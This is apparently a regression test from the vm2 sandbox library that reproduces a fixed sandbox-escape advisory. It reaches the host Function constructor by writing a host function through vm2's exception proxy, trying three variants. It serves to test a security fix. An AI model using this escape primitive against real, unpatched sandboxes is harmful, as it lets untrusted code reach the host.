// Source: vm2 test/ghsa/GHSA-9vg3-4rfj-wgcm/repro.js (fixed in vm2 3.11.2), docs/ATTACKS.md Category 26.
// Tried: throw (and resolve with) a null-prototype sandbox object; the proxy vm2 made of it in
// handleException wrote `e.f = Buffer.prototype.inspect` through as the raw host function, readable
// back through the original reference `o.f`, whose constructor is the host Function.
const out = {};
const o = { __proto__: null };
try {
  throw o;
} catch (e) {
  try { e.f = Buffer.prototype.inspect; } catch (x) { out.assign = String(x.message); }
  out.sameObject = e === o;
  __wr.use(o.f, 'o.f after throw');
  __wr.use(o.f && o.f.constructor, 'o.f.constructor after throw');
}
const o2 = { __proto__: null };
await Promise.resolve(o2).then((e) => {
  try { e.f = Buffer.prototype.inspect; } catch (x) {}
  __wr.use(o2.f, 'o2.f after Promise.then');
});
if (typeof SuppressedError === 'function') {
  const o3 = { __proto__: null };
  try {
    throw new SuppressedError(o3, new Error('x'), 'msg');
  } catch (e) {
    try { e.error.f = Buffer.prototype.inspect; } catch (x) {}
    __wr.use(o3.f, 'o3.f after SuppressedError');
  }
}
return out;
